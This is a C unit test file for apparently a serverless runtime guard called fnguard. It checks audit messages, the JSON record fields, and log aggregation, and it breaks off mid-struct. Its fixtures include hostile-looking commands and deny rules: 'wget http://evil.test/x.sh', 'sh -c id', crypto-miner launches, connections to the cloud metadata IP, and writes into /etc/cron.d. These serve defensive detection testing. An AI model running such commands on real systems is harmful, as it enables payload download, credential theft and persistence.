/*
 * check_audit — audit records (SPEC section 4): the exact messages, built
 * from real events through the rule engine; the JSON line and its field
 * names; hostile bytes and over-long values; and the shipper: aggregation
 * of identical records, the bounded queue, and the file sink.
 */
#include "config.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <jansson.h>

#include "fnguard/audit.h"
#include "fnguard/diag.h"
#include "fnguard/event.h"
#include "fnguard/identity.h"
#include "fnguard/pattern.h"
#include "fnguard/policy.h"
#include "fnguard/rules.h"

/* 2026-11-29T06:00:00Z in Unix milliseconds. */
#define T0 INT64_C(1795932000000)
#define WINDOW 10000

/* ---- helpers ---- */

/* Parses a one-rule policy (rule "r1", every function) whose sections are
 * written with ' for ". */
static struct policy *
load_rule(const char *sections)
{
	struct policy *pol;
	struct diags d;
	bool hijacked = false;
	char json[4096], *p;

	snprintf(json, sizeof(json), "{'rules': [{'name': 'r1', %s}]}",
	    sections);
	for (p = json; *p != '\0'; p++)
		if (*p == '\'')
			*p = '"';
	diags_init(&d);
	pol = policy_parse(json, strlen(json), NULL, &d, &hijacked);
	ck_assert_msg(pol != NULL, "policy did not load: %s", json);
	diags_clear(&d);
	return pol;
}

static struct identity the_id;

static void
setup_id(void)
{
	memset(&the_id, 0, sizeof(the_id));
	the_id.function = "payments-api";
	the_id.region = "us-east-1";
	the_id.provider = "aws";
	the_id.account = "123456789012";
	the_id.runtime = "python3.12";
	the_id.request_id = "c0ffee-1";
}

static void
set_ip(struct event *ev, const char *text)
{
	ck_assert_int_eq(ipaddr_parse(text, strlen(text), &ev->ip), 0);
}

/* Evaluates ev under a one-rule policy; the verdict must not be allow.
 * The policy is returned for the caller to free (v->rule points into it). */
static struct policy *
deny_of(const char *sections, const struct event *ev, struct verdict *v)
{
	struct policy *pol = load_rule(sections);

	setup_id();
	rules_eval(pol, &the_id, ev, v);
	ck_assert_msg(v->verdict != VERDICT_ALLOW, "event allowed under %s",
	    sections);
	return pol;
}

/* ---- the events of the message table ---- */

static void
mk_dns(struct event *ev)
{
	event_init(ev, EVENT_DNS);
	ev->process_path = "/usr/bin/wget";
	ev->pid = 43;
	ev->domain = "yahoo.com";
}

static void
mk_exec_wget(struct event *ev)
{
	event_init(ev, EVENT_EXEC);
	ev->process_path = "/usr/bin/wget";
	ev->command = "wget http://evil.test/x.sh";
	ev->pid = 43;
}

static void
mk_exec_sh(struct event *ev)
{
	event_init(ev, EVENT_EXEC);
	ev->process_path = "/bin/sh";
	ev->command = "sh -c id";
	ev->pid = 42;
	ev->main_process = false;
}

static void
mk_exec_miner(struct event *ev)
{
	event_init(ev, EVENT_EXEC);
	ev->process_path = "/tmp/xmrig";
	ev->command = "/tmp/xmrig -o stratum+tcp://pool.test:3333";
	ev->pid = 66;
}

static void
mk_exec_renamed_miner(struct event *ev)
{
	event_init(ev, EVENT_EXEC);
	ev->process_path = "/tmp/kworker";
	ev->command = "/tmp/kworker --donate-level 1 -o pool.test:443";
	ev->pid = 67;
}

static void
mk_connect_metadata(struct event *ev)
{
	event_init(ev, EVENT_CONNECT);
	ev->process_path = "/usr/bin/curl";
	ev->pid = 44;
	set_ip(ev, "169.254.169.254");
	ev->port = 80;
	ev->proto = PROTO_TCP;
}

static void
mk_connect_v6(struct event *ev)
{
	mk_connect_metadata(ev);
	set_ip(ev, "2001:db8::1");
	ev->port = 443;
}

static void
mk_sendto(struct event *ev)
{
	event_init(ev, EVENT_SENDTO);
	ev->process_path = "/usr/bin/dig";
	ev->pid = 45;
	set_ip(ev, "10.0.0.53");
	ev->port = 53;
	ev->proto = PROTO_UDP;
}

static void
mk_connect_port80(struct event *ev)
{
	mk_connect_metadata(ev);
	set_ip(ev, "192.0.2.99");
	ev->port = 80;
}

static void
mk_listen(struct event *ev)
{
	event_init(ev, EVENT_LISTEN);
	ev->process_path = "/usr/sbin/sshd";
	ev->pid = 46;
	ev->port = 22;
	ev->proto = PROTO_TCP;
}

static void
mk_open(struct event *ev)
{
	event_init(ev, EVENT_OPEN);
	ev->process_path = "/var/lang/bin/python3";
	ev->pid = 1;
	ev->filepath = "/etc/passwd";
	ev->access = ACCESS_READ;
}

static void
mk_rename(struct event *ev)
{
	event_init(ev, EVENT_RENAME);
	ev->process_path = "/var/lang/bin/python3";
	ev->pid = 1;
	ev->filepath = "/tmp/job";
	ev->newpath = "/etc/cron.d/job";
}

struct msg_case {
	const char *sections;
	void (*mk)(struct event *);
	enum attack_type attack;
	const char *type;
	const char *msg;
};

static const struct msg_case msg_cases[] = {
	{ "'dns': {'effect': 'prevent', 'blacklist': ['yahoo.com']}",
	  mk_dns, ATTACK_DENIED_DNS, "network",
	  "DNS resolution of domain name yahoo.com triggered by /usr/bin/wget "
	  "explicitly denied by a runtime rule." },
	{ "'processes': {'effect': 'prevent', 'blacklist': ['wget']}",
	  mk_exec_wget, ATTACK_DENIED_PROCESS, "processes",
	  "/usr/bin/wget launched and is explicitly denied by runtime rule. "
	  "Full command wget http://evil.test/x.sh" },
	{ "'processes': {'effect': 'prevent', 'blockAllBinaries': true}",
	  mk_exec_sh, ATTACK_DENIED_PROCESS, "processes",
	  "/bin/sh launched and is explicitly denied by runtime rule. "
	  "Full command sh -c id" },
	{ "'processes': {'effect': 'prevent', 'checkCryptoMiners': true}",
	  mk_exec_miner, ATTACK_CRYPTO_MINER, "processes",
	  "/tmp/xmrig launched and is identified as a crypto miner. "
	  "Full command: /tmp/xmrig -o stratum+tcp://pool.test:3333" },
	{ "'processes': {'effect': 'alert', 'checkCryptoMiners': true}",
	  mk_exec_renamed_miner, ATTACK_CRYPTO_MINER, "processes",
	  "/tmp/kworker launched and is identified as a crypto miner. "
	  "Full command: /tmp/kworker --donate-level 1 -o pool.test:443" },
	{ "'network': {'effect': 'prevent', 'blacklistIPs': "
	  "['169.254.169.254']}",
	  mk_connect_metadata, ATTACK_DENIED_IP, "network",
	  "Outbound connection /usr/bin/curl to IP 169.254.169.254 is "
	  "explicitly denied by a runtime rule" },
	{ "'network': {'effect': 'prevent', 'blacklistIPs': ['2001:db8::/32']}",
	  mk_connect_v6, ATTACK_DENIED_IP, "network",
	  "Outbound connection /usr/bin/curl to IP 2001:db8::1 is "
	  "explicitly denied by a runtime rule" },
	{ "'network': {'effect': 'prevent', 'blacklistIPs': ['10.0.0.0/8']}",
	  mk_sendto, ATTACK_DENIED_IP, "network",
	  "Outbound connection /usr/bin/dig to IP 10.0.0.53 is "
	  "explicitly denied by a runtime rule" },
	{ "'network': {'effect': 'prevent', 'whitelistOutboundPorts': "
	  "[{'start': 443, 'end': 443}]}",
	  mk_connect_port80, ATTACK_DENIED_OUTBOUND_PORT, "network",
	  "Outbound connection /usr/bin/curl to port 80 (IP: 192.0.2.99) is "
	  "explicitly denied by a runtime rule." },
	{ "'network': {'effect': 'prevent', 'blacklistListeningPorts': "
	  "[{'start': 22, 'end': 22}]}",
	  mk_listen, ATTACK_DENIED_LISTENING_PORT, "network",
	  "Process /usr/sbin/sshd is listening on port 22 explicitly denied "
	  "by a runtime rule" },
	{ "'filesystem': {'effect': 'alert', 'blacklist': ['/etc/*']}",
	  mk_open, ATTACK_REG_FILE_ACCESS, "filesystem",
	  "/var/lang/bin/python3 access a suspicious path of /etc/passwd" },
	{ "'filesystem': {'effect': 'prevent', 'blacklist': ['/etc/*']}",
	  mk_rename, ATTACK_REG_FILE_ACCESS, "filesystem",
	  "/var/lang/bin/python3 access a suspicious path of /etc/cron.d/job" },
};

START_TEST(test_messages)
{
	const struct msg_case *c = &msg_cases[_i];
	struct audit_record rec;
	struct policy *pol;
	struct verdict v;
	struct event ev;
	char buf[AUDIT_MSG_LEN];

	c->mk(&ev);
	pol = deny_of(c->sections, &ev, &v);
	ck_assert_str_eq(attack_type_name(v.attack),
	    attack_type_name(c->attack));
	audit_message(&v, &ev, buf, sizeof(buf));
	ck_assert_str_eq(buf, c->msg);

	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	ck_assert_str_eq(rec.msg, c->msg);
	ck_assert_str_eq(rec.type, c->type);
	ck_assert_int_eq((int)rec.attack, (int)c->attack);
	ck_assert_int_eq((int)rec.effect, (int)v.verdict);
	ck_assert_str_eq(rec.rule_name, "r1");
	ck_assert_uint_eq(rec.count, 1);
	ck_assert_str_eq(rec.process_path, ev.process_path);
	ck_assert_int_eq(rec.pid, ev.pid);
	ck_assert_msg(strcmp(rec.severity, "low") == 0 ||
	    strcmp(rec.severity, "medium") == 0 ||
	    strcmp(rec.severity, "high") == 0, "severity %s", rec.severity);
	policy_free(pol);
}
END_TEST

START_TEST(test_message_hijack)
{
	struct audit_record rec;
	char line[8192];
	json_t *o;
	size_t n;

	setup_id();
	audit_record_hijack(&rec, &the_id, T0 + 7);
	ck_assert_str_eq(rec.msg,
	    "Possible tampering of Defender policy detected.");
	ck_assert_int_eq((int)rec.attack, (int)ATTACK_POLICY_HIJACKED);
	ck_assert_int_eq((int)rec.effect, (int)VERDICT_PREVENT);
	ck_assert_uint_eq(rec.count, 1);
	ck_assert_str_eq(rec.function, "payments-api");

	n = audit_record_json(&rec, line, sizeof(line));
	ck_assert_uint_gt(n, 0);
	o = json_loadb(line, n, 0, NULL);
	ck_assert_ptr_nonnull(o);
	ck_assert_str_eq(json_string_value(json_object_get(o, "attackType")),
	    "policyHijacked");
	ck_assert_str_eq(json_string_value(json_object_get(o, "effect")),
	    "prevent");
	ck_assert_str_eq(json_string_value(json_object_get(o, "msg")),
	    "Possible tampering of Defender policy detected.");
	ck_assert_str_eq(json_string_value(json_object_get(o, "time")),
	    "2026-11-29T06:00:00.007Z");
	ck_assert_str_eq(json_string_value(json_object_get(o, "accountID")),
	    "123456789012");
	json_decref(o);
}
END_TEST

/* ---- the JSON line ---- */

/* Renders rec, checks it is one line, and parses it back. */
static json_t *
render(const struct audit_record *rec)
{
	static char line[16384];
	json_error_t err;
	size_t n;
	json_t *o;

	/* The line is n bytes (the contract promises no NUL after it). */
	n = audit_record_json(rec, line, sizeof(line));
	ck_assert_uint_gt(n, 0);
	ck_assert_uint_lt(n, sizeof(line));
	ck_assert_msg(memchr(line, '\0', n) == NULL, "NUL inside the line");
	ck_assert_msg(line[n - 1] == '\n', "line does not end in \\n");
	ck_assert_msg(memchr(line, '\n', n - 1) == NULL, "more than one line");
	o = json_loadb(line, n, 0, &err);
	ck_assert_msg(o != NULL, "not JSON: %s: %s", err.text, line);
	ck_assert(json_is_object(o));
	return o;
}

static void
field_str(const json_t *o, const char *key, const char *want)
{
	const json_t *v = json_object_get(o, key);

	ck_assert_msg(v != NULL, "field %s missing", key);
	ck_assert_msg(json_is_string(v), "field %s is not a string", key);
	ck_assert_msg(strcmp(json_string_value(v), want) == 0,
	    "field %s is \"%s\", expected \"%s\"", key, json_string_value(v),
	    want);
}

static void
field_int(const json_t *o, const char *key, json_int_t want)
{
	const json_t *v = json_object_get(o, key);

	ck_assert_msg(v != NULL, "field %s missing", key);
	ck_assert_msg(json_is_integer(v), "field %s is not an integer", key);
	ck_assert_msg(json_integer_value(v) == want, "field %s is %lld, "
	    "expected %lld", key, (long long)json_integer_value(v),
	    (long long)want);
}

/* RFC 3339 UTC with milliseconds: YYYY-MM-DDTHH:MM:SS.mmmZ */
static void
field_time(const json_t *o, const char *want)
{
	static const char shape[] = "dddd-dd-ddTdd:dd:dd.dddZ";
	const char *t = json_string_value(json_object_get(o, "time"));
	size_t i;

	ck_assert_ptr_nonnull(t);
	ck_assert_uint_eq(strlen(t), strlen(shape));
	for (i = 0; shape[i] != '\0'; i++)
		if (shape[i] == 'd')
			ck_assert_msg(t[i] >= '0' && t[i] <= '9', "time %s", t);
		else
			ck_assert_msg(t[i] == shape[i], "time %s", t);
	ck_assert_str_eq(t, want);
}

static void
identity_fields(const json_t *o)
{
	field_str(o, "function", "payments-api");
	field_str(o, "region", "us-east-1");
	field_str(o, "provider", "aws");
	field_str(o, "accountID", "123456789012");
	field_str(o, "runtime", "python3.12");
	field_str(o, "requestID", "c0ffee-1");
}

static void
severity_field(const json_t *o)
{
	const char *s = json_string_value(json_object_get(o, "severity"));

	ck_assert_msg(s != NULL, "severity missing");
	ck_assert_msg(strcmp(s, "low") == 0 || strcmp(s, "medium") == 0 ||
	    strcmp(s, "high") == 0, "severity %s", s);
}

START_TEST(test_json_process_record)
{
	struct audit_record rec;
	struct policy *pol;
	struct verdict v;
	struct event ev;
	json_t *o;

	mk_exec_wget(&ev);
	ev.time_ms = T0 + 123;
	ev.user = "sbx_user1051";
	pol = deny_of("'processes': {'effect': 'prevent', 'blacklist':"
	    " ['wget']}", &ev, &v);
	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	o = render(&rec);
	field_time(o, "2026-11-29T06:00:00.123Z");
	identity_fields(o);
	field_str(o, "type", "processes");
	field_str(o, "attackType", "explicitlyDeniedProcess");
	field_str(o, "effect", "prevent");
	field_str(o, "ruleName", "r1");
	field_str(o, "msg", "/usr/bin/wget launched and is explicitly denied "
	    "by runtime rule. Full command wget http://evil.test/x.sh");
	field_int(o, "count", 1);
	severity_field(o);
	field_str(o, "processPath", "/usr/bin/wget");
	field_int(o, "pid", 43);
	field_str(o, "command", "wget http://evil.test/x.sh");
	field_str(o, "user", "sbx_user1051");
	json_decref(o);
	policy_free(pol);
}
END_TEST

START_TEST(test_json_network_record)
{
	struct audit_record rec;
	struct policy *pol;
	struct verdict v;
	struct event ev;
	json_t *o;

	mk_connect_port80(&ev);
	ev.time_ms = T0 + 60000 + 5;
	ev.domain = "api.example.com";
	ev.command = "curl http://api.example.com/";
	pol = deny_of("'network': {'effect': 'alert', 'whitelistOutboundPorts':"
	    " [{'start': 443, 'end': 443}]}", &ev, &v);
	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	o = render(&rec);
	field_time(o, "2026-11-29T06:01:00.005Z");
	identity_fields(o);
	field_str(o, "type", "network");
	field_str(o, "attackType", "explicitlyDeniedOutboundPort");
	field_str(o, "effect", "alert");
	field_str(o, "ruleName", "r1");
	field_str(o, "msg", "Outbound connection /usr/bin/curl to port 80 "
	    "(IP: 192.0.2.99) is explicitly denied by a runtime rule.");
	field_int(o, "count", 1);
	severity_field(o);
	field_str(o, "processPath", "/usr/bin/curl");
	field_int(o, "pid", 44);
	field_str(o, "command", "curl http://api.example.com/");
	field_str(o, "domain", "api.example.com");
	field_str(o, "ip", "192.0.2.99");
	field_int(o, "port", 80);
	json_decref(o);
	policy_free(pol);
}
END_TEST

START_TEST(test_json_dns_record)
{
	struct audit_record rec;
	struct policy *pol;
	struct verdict v;
	struct event ev;
	json_t *o;

	mk_dns(&ev);
	ev.time_ms = T0;
	pol = deny_of("'dns': {'effect': 'prevent', 'whitelist':"
	    " ['*.amazon.com']}", &ev, &v);
	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	o = render(&rec);
	field_time(o, "2026-11-29T06:00:00.000Z");
	field_str(o, "type", "network");
	field_str(o, "attackType", "explicitlyDeniedDNS");
	field_str(o, "domain", "yahoo.com");
	field_str(o, "msg", "DNS resolution of domain name yahoo.com triggered "
	    "by /usr/bin/wget explicitly denied by a runtime rule.");
	json_decref(o);
	policy_free(pol);
}
END_TEST

START_TEST(test_json_filesystem_record)
{
	struct audit_record rec;
	struct policy *pol;
	struct verdict v;
	struct event ev;
	json_t *o;

	mk_open(&ev);
	ev.time_ms = T0 + 999;
	pol = deny_of("'filesystem': {'effect': 'prevent', 'blacklist':"
	    " ['/etc/*']}", &ev, &v);
	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	o = render(&rec);
	field_time(o, "2026-11-29T06:00:00.999Z");
	identity_fields(o);
	field_str(o, "type", "filesystem");
	field_str(o, "attackType", "regFileAccess");
	field_str(o, "effect", "prevent");
	field_str(o, "filepath", "/etc/passwd");
	field_str(o, "processPath", "/var/lang/bin/python3");
	field_int(o, "pid", 1);
	json_decref(o);

	/* rename: the record names the denied newpath */
	mk_rename(&ev);
	rules_eval(pol, &the_id, &ev, &v);
	ck_assert_int_eq((int)v.verdict, (int)VERDICT_PREVENT);
	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	o = render(&rec);
	field_str(o, "filepath", "/etc/cron.d/job");
	json_decref(o);
	policy_free(pol);
}
END_TEST

START_TEST(test_identity_from_event)
{
	/* Where the identity says nothing, the event's own fields are used
	 * (replaying a recording from another function). */
	struct identity empty;
	struct audit_record rec;
	struct policy *pol;
	struct verdict v;
	struct event ev;
	json_t *o;

	mk_listen(&ev);
	ev.function = "orders";
	ev.region = "eu-west-1";
	ev.provider = "aws";
	ev.account = "999";
	pol = deny_of("'network': {'effect': 'prevent',"
	    " 'blacklistListeningPorts': [{'start': 22, 'end': 22}]}", &ev, &v);
	memset(&empty, 0, sizeof(empty));
	empty.function = empty.region = empty.account = "";
	empty.runtime = empty.request_id = "";
	empty.provider = "others";
	audit_record_from_verdict(&rec, &empty, &ev, &v);
	o = render(&rec);
	field_str(o, "function", "orders");
	field_str(o, "region", "eu-west-1");
	field_str(o, "provider", "aws");
	field_str(o, "accountID", "999");
	field_int(o, "port", 22);
	json_decref(o);
	policy_free(pol);
}
END_TEST

START_TEST(test_json_too_small)
{
	struct audit_record rec;
	char small[16];

	setup_id();
	audit_record_hijack(&rec, &the_id, T0);
	ck_assert_uint_eq(audit_record_json(&rec, small, sizeof(small)), 0);
}
END_TEST

START_TEST(test_json_invalid_utf8)
{
	struct audit_record rec;
	struct policy *pol;
	struct verdict v;
	struct event ev;
	json_t *o;

	event_init(&ev, EVENT_EXEC);
	ev.process_path = "/tmp/\xff\xfe" "bad";
	ev.command = "/tmp/\xff\xfe" "bad -x \xc3";
	ev.pid = 9;
	pol = deny_of("'processes': {'effect': 'prevent', 'blacklist':"
	    " ['/tmp/*']}", &ev, &v);
	audit_record_from_verdict(&rec, &the_id, &ev, &v);
	o = render(&rec);
	field_str(o, "processPath", "/tmp/??bad");
	field_str(o, "command", "/tmp/??bad -x ?");
	field_str(o, "msg", "/tmp/??bad launched and is explicitly denied by "
	    "runtime rule. Full command /tmp/??bad -x ?");
	json_decref(o);
	policy_free(pol);
}
END_TEST

/* A command of n copies of unit after a prefix. */
static char *
long_command(const char *prefix, const char *unit, size_t n)
{
	size_t plen = strlen(prefix), ulen = strlen(unit), i;
	char *s = malloc(plen + ulen * n + 1);

	ck_assert_ptr_nonnull(s);
	memcpy(s, prefix, plen);
	for (i = 0; i < n; i++)
		memcpy(s + plen + i * ulen, unit, ulen);
	s[plen + ulen * n] = '\0';
	return s;
}

static bool
ends_with(const char *s, const char *tail)
{
	size_t n = strlen(s), t = strlen(tail);

	return n >= t && strcmp(s + n - t, tail) == 0;
}

START_TEST(test_json_long_command)
{
	/* ASCII, and two-byte characters at both parities, so that the cut
	 * falls on either side of a character boundary. */
	static const char *const prefixes[] = { "/usr/bin/wget ",
	    "/usr/bin/wget ", "/usr/bin/wget a" };
	static const char *const units[] = { "a", "\xc3\xa9", "\xc3\xa9" };
	const char *want_msg = "/usr/bin/wget launched and is explicitly "
	    "denied by runtime rule. Full command /usr/bin/wget ";
	struct audit_record rec;
	struct policy *pol = load_rule("'processes': {'effect': 'prevent',"
	    " 'blacklist': ['wget']}");
	struct verdict v;
	struct event ev;
	const char *s;
	json_t *o;
	size_t i;

	setup_id();
	for (i = 0; i < 3; i++) {
		char *cmd = long_command(prefixes[i], units[i], 5000);

		event_init(&ev, EVENT_EXEC);
		ev.process_path = "/usr/bin/wget";
		ev.command = cmd;
		ev.pid = 43;
		rules_eval(pol, &the_id, &ev, &v);
		ck_assert_int_eq((int)v.verdict, (int)VERDICT_PREVENT);
		audit_record_from_verdict(&rec, &the_id, &ev, &v);
		ck_assert_uint_lt(strlen(rec.command), AUDIT_PATH_LEN);
		ck_assert_msg(ends_with(rec.command, "..."),
		    "case %zu: cut command does not end in ...", i);
		ck_assert_int_eq(strncmp(rec.command, prefixes[i],
		    strlen(prefixes[i])), 0);
		o = render(&rec);
		s = json_string_value(json_object_get(o, "command"));
		ck_assert_msg(s != NULL, "case %zu: command missing", i);
		ck_assert_str_eq(s, rec.command);
		s = json_string_value(json_object_get(o, "msg"));
		ck_assert_msg(s != NULL, "case %zu: msg missing from the JSON "
		    "(a message cut inside a UTF-8 character?)", i);
		ck_assert_int_eq(strncmp(s, want_msg, strlen(want_msg)), 0);
		json_decref(o);
		free(cmd);
	}
	policy_free(pol);
}
END_TEST

/* ---- the shipper ---- */

static char sink_path[64];

static void
make_sink_path(void)
{
	int fd;

	strcpy(sink_path, "/tmp/check_audit.XXXXXX");
	fd = mkstemp(sink_path);
	ck_assert_int_ge(fd, 0);
	close(fd);
}

/* The file's lines, parsed; every line must be a JSON object ending in
 * '\n'. Returns the number of lines (at most max). */
static size_t
read_lines(const char *path, json_t **out, size_t max)
{
	FILE *f = fopen(path, "r");
	char *line = NULL;
	size_t cap = 0, n = 0;
	ssize_t len;

	ck_assert_ptr_nonnull(f);
	while ((len = getline(&line, &cap, f)) > 0) {
		json_t *o;

		ck_assert_msg(line[len - 1] == '\n', "last line unterminated");
		o = json_loadb(line, (size_t)len, 0, NULL);
		ck_assert_msg(o != NULL, "line %zu is not JSON: %s", n + 1,
		    line);
		ck_assert_msg(n < max, "more than %zu lines", max);
		out[n++] = o;
	}
	free(line);
	fclose(f);
	return n;
}

static void
free_lines(json_t **lines, size_t n)
{
	while (n > 0)
		json_decref(lines[--n]);
}

static json_int_t
count_of(const json_t *o)
{
	const json_t *c = json_object_get(o, "count");

	ck_assert_msg(json_is_integer(c), "count missing");
	return json_integer_value(c);
}

static const char *
str_of(const json_t *o, const char *key)
{
	const char *s = json_string_value(json_object_get(o, key));

	ck_assert_msg(s != NULL, "%s missing", key);
	return s;
}

/* A denied connection to addr by proc, as a record. */
static void
conn_record(struct audit_record *rec, const char *proc, const char *addr)
{
	struct policy *pol = load_rule("'network': {'effect': 'prevent',"
	    " 'blacklistIPs': ['10.0.0.0/8']}");
	struct verdict v;
	struct event ev;

	setup_id();
	event_init(&ev, EVENT_CONNECT);
	ev.process_path = proc;
	ev.pid = 50;
	set_ip(&ev, addr);
	ev.port = 443;
	ev.time_ms = T0;
	rules_eval(pol, &the_id, &ev, &v);
	ck_assert_int_eq((int)v.verdict, (int)VERDICT_PREVENT);
	audit_record_from_verdict(rec, &the_id, &ev, &v);
	policy_free(pol);
}

static struct audit *
new_shipper(size_t queue_size)
{
	struct audit_config cfg = { queue_size, 0, WINDOW };
	struct audit *a = audit_new(&cfg);

	ck_assert_ptr_nonnull(a);
	make_sink_path();
	ck_assert_int_eq(audit_add_sink(a, sink_path), 0);
	return a;
}

START_TEST(test_flood_aggregated)
{
	struct audit *a = new_shipper(0);
	struct audit_record rec;
	struct audit_stats st;
	json_t *lines[8];
	size_t n, i;

	conn_record(&rec, "/usr/bin/curl", "10.0.0.1");
	for (i = 0; i < 1000; i++)
		audit_submit(a, &rec, T0 + (int64_t)i);
	audit_tick(a, T0 + WINDOW + 1, false);
	audit_flush(a);
	n = read_lines(sink_path, lines, 8);
	ck_assert_uint_eq(n, 2);
	ck_assert_int_eq(count_of(lines[0]), 1);
	ck_assert_int_eq(count_of(lines[1]), 999);
	ck_assert_str_eq(str_of(lines[1], "ip"), "10.0.0.1");
	ck_assert_str_eq(str_of(lines[1], "msg"), rec.msg);
	free_lines(lines, n);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.submitted, 1000);
	ck_assert_uint_eq(st.dropped, 0);
	ck_assert_uint_eq(st.written, 2);

	/* Long after, the same record is news again. */
	audit_submit(a, &rec, T0 + 4 * WINDOW);
	audit_flush(a);
	n = read_lines(sink_path, lines, 8);
	ck_assert_uint_eq(n, 3);
	ck_assert_int_eq(count_of(lines[2]), 1);
	free_lines(lines, n);
	audit_free(a);
	n = read_lines(sink_path, lines, 8);
	ck_assert_uint_eq(n, 3);
	free_lines(lines, n);
	unlink(sink_path);
}
END_TEST

START_TEST(test_different_not_merged)
{
	struct audit *a = new_shipper(0);
	struct audit_record recs[3];
	json_t *lines[16];
	json_int_t sum[3] = { 0, 0, 0 };
	size_t n, i, j, hits[3] = { 0, 0, 0 };

	conn_record(&recs[0], "/usr/bin/curl", "10.0.0.1");
	conn_record(&recs[1], "/usr/bin/curl", "10.0.0.2");
	conn_record(&recs[2], "/usr/bin/wget", "10.0.0.1");
	for (i = 0; i < 2; i++)
		for (j = 0; j < 3; j++)
			audit_submit(a, &recs[j], T0 + (int64_t)i);
	audit_tick(a, T0 + WINDOW + 1, false);
	audit_flush(a);
	n = read_lines(sink_path, lines, 16);
	ck_assert_uint_eq(n, 6);
	for (i = 0; i < n; i++) {
		const char *proc = str_of(lines[i], "processPath");
		const char *addr = str_of(lines[i], "ip");

		j = strcmp(proc, "/usr/bin/wget") == 0 ? 2 :
		    strcmp(addr, "10.0.0.2") == 0 ? 1 : 0;
		ck_assert_str_eq(str_of(lines[i], "msg"), recs[j].msg);
		sum[j] += count_of(lines[i]);
		hits[j]++;
	}
	for (j = 0; j < 3; j++) {
		ck_assert_msg(hits[j] == 2, "record %zu: %zu lines", j,
		    hits[j]);
		ck_assert_msg(sum[j] == 2, "record %zu: count %lld", j,
		    (long long)sum[j]);
	}
	free_lines(lines, n);
	audit_free(a);
	unlink(sink_path);
}
END_TEST

START_TEST(test_new_window_emits_again)
{
	struct audit *a = new_shipper(0);
	struct audit_record rec;
	json_t *lines[8];
	size_t n;

	conn_record(&rec, "/usr/bin/curl", "10.0.0.1");
	/* closed by a tick with nothing pending */
	audit_submit(a, &rec, T0);
	audit_tick(a, T0 + WINDOW + 1, false);
	audit_submit(a, &rec, T0 + WINDOW + 2);
	/* closed by time alone */
	audit_submit(a, &rec, T0 + 3 * WINDOW);
	audit_flush(a);
	n = read_lines(sink_path, lines, 8);
	ck_assert_uint_eq(n, 3);
	ck_assert_int_eq(count_of(lines[0]), 1);
	ck_assert_int_eq(count_of(lines[1]), 1);
	ck_assert_int_eq(count_of(lines[2]), 1);
	free_lines(lines, n);
	audit_free(a);
	n = read_lines(sink_path, lines, 8);
	ck_assert_uint_eq(n, 3);
	free_lines(lines, n);
	unlink(sink_path);
}
END_TEST

START_TEST(test_queue_bounded)
{
	struct audit *a = new_shipper(8);
	struct audit_record rec;
	struct audit_stats st;
	json_t *lines[128];
	char addr[32];
	size_t n, i;

	for (i = 0; i < 100; i++) {
		snprintf(addr, sizeof(addr), "10.0.0.%zu", i);
		conn_record(&rec, "/usr/bin/curl", addr);
		audit_submit(a, &rec, T0);
	}
	audit_stats(a, &st);
	ck_assert_uint_eq(st.submitted, 100);
	ck_assert_uint_eq(st.dropped, 92);
	audit_flush(a);
	n = read_lines(sink_path, lines, 128);
	ck_assert_uint_eq(n, 8);
	for (i = 0; i < n; i++)
		ck_assert_int_eq(count_of(lines[i]), 1);
	free_lines(lines, n);
	audit_stats(a, &st);
	ck_assert_uint_eq(st.written, 8);
	ck_assert_uint_eq(st.dropped, 92);
	audit_free(a);
	unlink(sink_path);
}
END_TEST

START_TEST(test_free_flushes)
{
	struct audit *a = new_shipper(0);
	struct audit_record ra, rb;
	json_t *lines[8];
	json_int_t total_a = 0, total_b = 0;
	size_t n, i;

	conn_record(&ra, "/usr/bin/curl", "10.0.0.1");
	conn_record(&rb, "/usr/bin/curl", "10.0.0.2");
	for (i = 0; i < 5; i++)
		audit_submit(a, &ra, T0 + (int64_t)i);
	audit_submit(a, &rb, T0);
	audit_free(a);		/* no tick, no flush before */
	n = read_lines(sink_path, lines, 8);
	ck_assert_uint_eq(n, 3);
	for (i = 0; i < n; i++) {
		if (strcmp(str_of(lines[i], "ip"), "10.0.0.1") == 0)
			total_a += count_of(lines[i]);
		else
			total_b += count_of(lines[i]);
	}
	ck_assert_int_eq(total_a, 5);
	ck_assert_int_eq(total_b, 1);
	ck_assert_int_eq(count_of(lines[0]), 1);
	free_lines(lines, n);
	unlink(sink_path);
}
END_TEST

START_TEST(test_sink_stderr)
{
	struct audit *a = audit_new(NULL);
	struct audit_record rec;
	json_t *lines[8];
	char path[] = "/tmp/check_audit_err.XXXXXX";
	char buf[8192];
	size_t got, jsonl = 0;
	int fd, saved;
	FILE *f;

	ck_assert_ptr_nonnull(a);
	fd = mkstemp(path);
	ck_assert_int_ge(fd, 0);
	fflush(stderr);
	saved = dup(STDERR_FILENO);
	ck_assert_int_ge(saved, 0);
	ck_assert_int_ge(dup2(fd, STDERR_FILENO), 0);
	ck_assert_int_eq(audit_add_sink(a, "-"), 0);
	conn_record(&rec, "/usr/bin/curl", "10.0.0.1");
	audit_submit(a, &rec, T0);
	audit_flush(a);
	audit_free(a);
	fflush(stderr);
	dup2(saved, STDERR_FILENO);
	close(saved);
	close(fd);

	/* Log lines ("fnguard: ...") may share stderr: count JSON lines. */
	f = fopen(path, "r");
	ck_assert_ptr_nonnull(f);
	while (fgets(buf, sizeof(buf), f) != NULL) {
		got = strlen(buf);
		if (buf[0] != '{')
			continue;
		ck_assert(got > 0 && buf[got - 1] == '\n');
		lines[0] = json_loads(buf, 0, NULL);
		ck_assert_ptr_nonnull(lines[0]);
		ck_assert_str_eq(str_of(lines[0], "ip"), "10.0.0.1");
		json_decref(lines[0]);
		jsonl++;
	}
	fclose(f);
	unlink(path);
	ck_assert_uint_eq(jsonl, 1);
}
END_TEST

START_TEST(test_sink_refused)
{
	struct audit *a = audit_new(NULL);

	ck_assert_ptr_nonnull(a);
	ck_assert_int_eq(audit_add_sink(a, "foo://x"), -1);
	ck_assert_int_eq(audit_add_sink(a, "/nonexistent-dir-h4/audit.log"),
	    -1);
	audit_free(a);
}
END_TEST

/* ---- the table at scale: many distinct records, its cap ---- */

#define MANY 200000

struct many {
	struct policy *pol;
	struct event ev;
	struct verdict v;
	char name[32];
	uint8_t *sum;		/* counts seen, per name */
